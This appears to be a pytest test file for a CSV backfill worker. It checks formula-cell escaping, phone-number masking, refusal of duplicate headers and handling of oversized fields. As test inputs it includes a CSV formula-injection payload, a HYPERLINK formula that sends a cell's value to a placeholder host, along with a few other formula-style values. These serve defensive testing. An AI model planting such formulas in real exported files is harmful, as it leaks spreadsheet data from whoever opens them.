"""Files we write are safe to open and files we read cannot be turned against a backfill:
formula cells escaped in every CSV column, numbers masked in any spelling, a duplicate header
refused, an oversized quoted field costing exactly one reject row."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from click.testing import CliRunner
from hypothesis import given, settings
from hypothesis import strategies as st

from worker.backfill import (
    FORMULA_PREFIXES,
    MAX_ROW_CHARS,
    csv_records,
    run_backfill,
    safe_cell,
    safe_writer,
    unescape_cell,
)
from worker.cli import main
from worker.errors import InvalidRequestError
from worker.runtime import Runtime

HEADER = ["PoolKey", "PhoneNoA", "PhoneNoB", "Expiration", "OutId"]
FORMULA = '=HYPERLINK("http://x/?a="&A1;"click")'


def expiration() -> str:
    return (datetime.now(UTC) + timedelta(hours=30)).strftime("%Y-%m-%d %H:%M:%S")


def row(i: int, **over: str) -> list[str]:
    values = {"PoolKey": "FC100000001", "PhoneNoA": f"1380004{i:04d}", "PhoneNoB": f"1390004{i:04d}"}
    values.update(Expiration=expiration(), OutId=f"files-{i}")
    values.update(over)
    return [values[h] for h in HEADER]


def write(path: Path, header: list[str], rows: list[list[str]]) -> Path:
    with path.open("w", newline="", encoding="utf-8") as fh:
        w = csv.writer(fh)
        w.writerow(header)
        w.writerows(rows)
    return path


def rejects_of(summary: dict[str, object]) -> list[list[str]]:
    with Path(str(summary["rejects_file"])).open(newline="", encoding="utf-8") as fh:
        return list(csv.reader(fh))[1:]


def is_formula(cell: str) -> bool:
    return cell.lstrip(" ").startswith(FORMULA_PREFIXES)


# --- formula injection ---------------------------------------------------------------------------


def test_no_column_of_the_rejects_file_holds_a_live_formula(rt: Runtime, tmp_path: Path) -> None:
    """Issue 11: a header named =HYPERLINK(...) reached the field and reason columns as a live
    formula. Every cell of every column is escaped now, whatever the column."""
    path = write(
        tmp_path / "inj.csv",
        [*HEADER, FORMULA],
        [[*row(0), "x"], [*row(1, OutId="=1+2"), "-2"], [*row(2, PhoneNoA="@SUM(A1)"), "+3"]],
    )
    summary = run_backfill(path)
    rejects = rejects_of(summary)
    assert summary["rejected"] == 3 and len(rejects) == 3
    cells = [c for r in rejects for c in r]
    assert not [c for c in cells if is_formula(c)]
    assert {r[1] for r in rejects} >= {"'" + FORMULA}  # the field column, escaped, not dropped


@pytest.mark.parametrize("prefix", [*FORMULA_PREFIXES, " =", "'=", " ' +"])
def test_a_cell_starting_like_a_formula_is_prefixed_with_an_apostrophe(prefix: str) -> None:
    """=, +, -, @, tab, CR, LF, their full-width twins, after spaces or apostrophes: all escaped."""
    assert safe_cell(prefix + "1") == "'" + prefix + "1"
    assert unescape_cell(safe_cell(prefix + "1")) == prefix + "1"


@given(st.text(max_size=20))
def test_reading_back_a_cell_we_wrote_gives_the_value_written(value: str) -> None:
    """unescape_cell(safe_cell(x)) == x: a file we wrote reads as what it was written from."""
    escaped = safe_cell(value)
    assert not is_formula(escaped)
    assert unescape_cell(escaped) == value


def test_a_file_written_by_the_safe_writer_backfills_as_written(rt: Runtime, tmp_path: Path) -> None:
    """The demo's copy of the sample goes through safe_writer: +86 numbers are still numbers."""
    path = tmp_path / "copy.csv"
    with path.open("w", newline="", encoding="utf-8") as fh:
        w = safe_writer(fh)
        w.writerow(HEADER)
        w.writerow(row(5, PhoneNoA="+86 138 0004 0005"))
    assert "'+86" in path.read_text()
    summary = run_backfill(path)
    assert summary["enqueued"] == 1 and summary["rejected"] == 0


# --- masking in the rejects file --------------------------------------------------------------------


def test_numbers_in_any_spelling_are_masked_in_the_rejects_file(rt: Runtime, tmp_path: Path) -> None:
    """Issue 11: spaces, dashes, +86 and full-width digits reached the rejects file unmasked."""
    spellings = ["138 0013 8000", "138-0013-8001", "+86 138 0013 8002", "１３８００１３８００３"]
    rows = [row(10 + i, PhoneNoA=s, PoolKey="bad pool!") for i, s in enumerate(spellings)]
    path = write(tmp_path / "spell.csv", [*HEADER, "13700137000"], [[*r, "x"] for r in rows])
    summary = run_backfill(path)
    text = Path(str(summary["rejects_file"])).read_text(encoding="utf-8")
    assert summary["rejected"] == 4
    for spelling in [*spellings, "13700137000", "0013 8", "0013-8", "１３８"]:
        assert spelling not in text, spelling
    for i in range(4):
        assert f"138****800{i}" in text
    assert "137****7000" in text and "1390004" not in text


# --- duplicate headers ---------------------------------------------------------------------------------


@pytest.mark.parametrize("second", ["PhoneNoA", "phone_no_a"])
def test_a_duplicate_header_refuses_the_file_before_anything_is_enqueued(
    rt: Runtime, tmp_path: Path, second: str
) -> None:
    """Issue 11: the last PhoneNoA column silently won. Now the file is refused, naming it."""
    path = write(tmp_path / "dup.csv", [*HEADER, second], [[*row(20), "13700000000"]])
    with pytest.raises(InvalidRequestError) as info:
        run_backfill(path)
    assert info.value.field == "PhoneNoA" and "column 2 and column 6" in str(info.value)
    assert rt.store.get("files-20") is None
    assert not (tmp_path / "dup.csv.rejects.csv").exists()


def test_the_cli_refuses_a_duplicate_header_in_one_line_with_exit_code_2(rt: Runtime, tmp_path: Path) -> None:
    path = write(tmp_path / "dup.csv", [*HEADER, "PhoneNoA"], [[*row(21), "13700000000"]])
    out = CliRunner().invoke(main, ["backfill", str(path), "--json"])
    assert out.exit_code == 2
    lines = out.output.strip().splitlines()
    assert len(lines) == 1 and "PhoneNoA" in lines[0] and "Traceback" not in out.output


def test_a_jsonl_row_naming_a_field_twice_is_rejected_alone(rt: Runtime, tmp_path: Path) -> None:
    """JSON objects keep the last duplicate key: such a row is rejected, the others go."""
    good = dict(zip(HEADER, row(30), strict=True))
    dup = json.dumps(dict(zip(HEADER, row(31), strict=True)))[:-1] + ', "PhoneNoA": "13700000000"}'
    escaped = dup.replace(', "PhoneNoA": "137', ', "Phone\\u004eoA": "137')
    by_field_name = dup.replace(', "PhoneNoA": "137', ', "phone_no_a": "137')
    path = tmp_path / "dup.jsonl"
    path.write_text("\n".join([json.dumps(good), dup, escaped, by_field_name]) + "\n")
    summary = run_backfill(path)
    assert summary["enqueued"] == 1 and summary["rejected"] == 3
    assert all("PhoneNoA is given twice" in r[3] for r in rejects_of(summary))


# --- oversized fields --------------------------------------------------------------------------------


def _huge_quoted_field(multiline: bool) -> str:
    line = ("y" * 60 + ',"",' + "z" * 30 + "\n") if multiline else "y" * 1000
    return (line * (1_000_000 // len(line) + 1))[:1_000_000]


@pytest.mark.parametrize("multiline", [True, False])
def test_a_million_character_quoted_field_costs_one_reject_row(
    rt: Runtime, tmp_path: Path, multiline: bool
) -> None:
    """Issue 11: it produced 871 reject rows and the valid row after it was rejected. Now: one
    reject row (with its line), and the rows before and after are enqueued."""
    path = tmp_path / "big.csv"
    huge = _huge_quoted_field(multiline).replace('"', '""')
    with path.open("w", newline="", encoding="utf-8") as fh:
        fh.write(",".join(HEADER) + "\n")
        fh.write(",".join(row(40)) + "\n")
        fh.write(",".join(row(41)[:-1]) + f',"{huge}"\n')
        fh.write(",".join(row(42)) + "\n")
    summary = run_backfill(path)
    assert summary["rejected"] == 1 and summary["enqueued"] == 2, summary
    (reject,) = rejects_of(summary)
    assert reject[0] == "3" and f"longer than {MAX_ROW_CHARS}" in reject[3]
    assert rt.store.get("files-40") is not None and rt.store.get("files-42") is not None


def test_an_unterminated_quote_at_the_end_costs_one_row(rt: Runtime, tmp_path: Path) -> None:
    """A quote never closed swallows the rest of the file: one reject, rows before it go."""
    path = tmp_path / "open.csv"
    tail = "".join(",".join(row(50 + i)) + "\n" for i in range(2000))
    path.write_text(",".join(HEADER) + "\n" + ",".join(row(49)) + "\n" + 'FC1,"never closed\n' + tail)
    summary = run_backfill(path)
    assert summary["rejected"] == 1 and summary["enqueued"] == 1


cells = st.text(alphabet=st.sampled_from('ab,"\n\r 1\t'), max_size=8)


@settings(max_examples=300)
@given(st.lists(st.lists(cells, min_size=1, max_size=4), min_size=1, max_size=6))
def test_the_record_reader_reads_what_csv_writes(rows: list[list[str]]) -> None:
    """Quotes, commas and line breaks inside cells: the same records as csv.reader."""
    buf = io.StringIO()
    csv.writer(buf).writerows(rows)
    text = buf.getvalue()
    ours = [r.cells for r in csv_records(io.StringIO(text, newline=""))]
    assert ours == list(csv.reader(io.StringIO(text, newline="")))


@settings(max_examples=300)
@given(st.text(alphabet=st.sampled_from('ab,"\n\r 1'), max_size=40))
def test_the_record_reader_agrees_with_csv_reader_on_any_small_text(text: str) -> None:
    """On junk as well (stray quotes, quotes after text), it splits records where csv.reader does."""
    ours = [r.cells for r in csv_records(io.StringIO(text, newline=""))]
    assert ours == list(csv.reader(io.StringIO(text, newline="")))


def test_the_record_reader_skips_a_long_record_to_its_end_and_goes_on() -> None:
    """A record longer than the limit is one refused record; the next one reads normally."""
    text = 'a,b\n1,"' + "x\n" * 50 + '"\n2,ok\n'
    out = list(csv_records(io.StringIO(text, newline=""), max_row_chars=40))
    assert [(r.first_line, r.cells) for r in out] == [(1, ["a", "b"]), (2, None), (53, ["2", "ok"])]
    assert "lines 2-52" in out[1].error
